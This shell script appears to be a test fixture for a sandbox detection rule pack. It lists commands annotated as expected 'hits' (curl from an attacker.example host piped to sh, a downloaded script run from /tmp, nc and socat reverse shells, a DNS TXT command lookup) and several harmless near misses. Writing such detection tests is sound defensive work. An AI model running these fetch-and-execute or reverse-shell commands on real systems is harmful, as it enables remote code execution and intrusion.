#!/bin/sh
# Downloaders and network tools. curl/wget are real (reach the sandbox sinks
# via the DNS sink); nc is not installed (failed PATH search); dig/socat/ncat
# are fakes (/mnt/fakebin, copies of /bin/true).
curl -s http://x7f3a9.attacker.example/payload.sh | sh      # hit: curl piped to a shell
wget -q -O /tmp/payload.sh http://dl.attacker.example/p.sh  # hit: wget writing to /tmp
sh /tmp/payload.sh                                          # hit: exec (sh) of a file written in this run
nc -e /bin/sh 127.0.0.1 9001                                # hit: nc (not installed; dash only stat()s the PATH entries, no execve)
env nc -z 127.0.0.1 9001                                    # hit: nc via env's execvp: failed execve() for every PATH entry
dig +short TXT cmd.attacker.example                         # hit: network tool (fake)
socat TCP:127.0.0.1:9001 EXEC:/bin/sh                       # hit: network tool (fake)
# near misses
/bin/echo "see curl and wget docs"                          # argv mentions curl, exe is echo
uname -a > /dev/null                                        # recon-ish, no rule in the default pack
ls /usr/bin/curl > /dev/null                                # looks at curl, does not run it
exit 0
